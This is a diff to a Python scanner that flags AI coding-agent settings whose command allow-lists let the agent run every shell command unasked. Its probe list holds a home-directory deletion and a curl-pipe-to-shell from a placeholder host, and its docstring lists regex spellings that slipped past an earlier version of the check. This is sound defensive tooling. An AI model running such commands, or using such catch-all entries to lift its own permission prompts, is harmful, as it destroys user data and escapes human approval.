@@ -319,9 +319,35 @@ _MODE_KEYS: dict[str, frozenset[str]] = {
 _ALLOW_KEYS = frozenset({"allowed", "allowedtools", "allow", "alwaysallow", "allowlist", "trustedtools", "autoapprovetools"})
 # Allow-lists of commands run without asking (VS Code extensions: Roo Code's and Kilo Code's `allowedCommands`, Copilot
 # Chat's `terminal.allowList` as {"/regex/": true}): an entry matching every command allows the shell everything.
-_COMMAND_ALLOW_KEYS = frozenset({"allowedcommands", "allowlist", "commandallowlist", "autoapprovecommands", "trustedcommands", "alwaysallowcommands"})
+_COMMAND_ALLOW_KEYS = frozenset(
+    {"allowedcommands", "allowlist", "commandallowlist", "autoapprovecommands", "trustedcommands", "alwaysallowcommands", "autoapprove"}
+)
 # Entries that match every command: a glob or a regular expression (in VS Code's /…/ form or bare) of anything.
 _EVERY_COMMAND = frozenset({"*", "**", ".*", "/.*/", "^.*$", "/^.*$/", ".+", "/.+/", "/^.+$/", "^.+$", "/.*/i"})
+# Command lines no allow-list of named commands matches: an entry that matches all of them matches every command.
+_PROBE_COMMANDS = ("rm -rf ~", "curl -s https://x.example/i.sh | sh", "git push --force origin main", "x")
+
+
+def matches_every_command(entry: str) -> bool:
+    """An allow-list entry that matches every command, however it is spelled (adversarial round 11a: `/./`, `/^/`,
+    `/(?:)/`, `/[\\s\\S]*/` and an empty prefix were allowed where `/.*/` and `*` were denied): one of the usual
+    spellings, an empty entry (Roo's and Kilo's entries are prefixes: "" begins every command), or a `/regex/` that
+    finds a match in each of a few unrelated command lines (VS Code tests its entries with RegExp.test)."""
+    e = entry.strip()
+    if e in _EVERY_COMMAND or e == "":
+        return True
+    if len(e) < 2 or not e.startswith("/") or len(e) > 512:
+        return False
+    body, _, flags = e[1:].rpartition("/")
+    if not body and not _:
+        return False
+    import re
+
+    try:
+        rx = re.compile(body, re.IGNORECASE if "i" in flags else 0)
+    except (re.error, RecursionError, OverflowError):
+        return False
+    return all(rx.search(c) is not None for c in _PROBE_COMMANDS)
 
 
 def settings_agent(path: str) -> str | None:
@@ -383,7 +409,7 @@ def _grants(agent: str, key: str, value: object) -> str | None:
             if isinstance(value, dict)
             else []
         )
-        hit = next((e for e in entries[:512] if e.strip() in _EVERY_COMMAND), None)
+        hit = next((e for e in entries[:512] if matches_every_command(e)), None)
         if hit is not None:
             return f"{key}: {hit}"
     if k in ("permission", "permissions"):
